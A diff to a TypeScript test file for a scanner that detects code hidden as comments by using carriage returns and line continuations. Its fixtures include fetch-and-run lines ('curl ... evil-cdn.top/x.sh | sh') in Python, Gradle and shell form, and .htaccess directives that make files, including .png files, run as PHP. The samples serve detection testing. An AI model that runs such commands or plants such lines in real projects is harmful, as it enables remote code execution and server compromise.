@@ -66,6 +66,9 @@ const samples: readonly (readonly [file: string, text: string, rule: string])[] 
   ],
   ['bin/tool.py', 'import os\n# a\ros.system("curl -s https://evil-cdn.top/x.sh | sh")', 'shell_exec'],
   ['build.gradle', '// a\rexec { commandLine "sh","-c","curl -s https://evil-cdn.top/x.sh | sh" }', 'executable'],
+  ['.htaccess', 'SetHandler \r \\\napplication/x-httpd-php\n', 'server_config'],
+  ['.htaccess', 'AddType \r \\\napplication/x-httpd-php .png\n', 'server_config'],
+  ['bin/a.sh', '#!/bin/sh\ncurl -s \r https://evil-cdn.top/x.sh \\\n| sh\n', 'executable'],
 ];
 
 describe('code that looks like a remark (decisions §5)', () => {
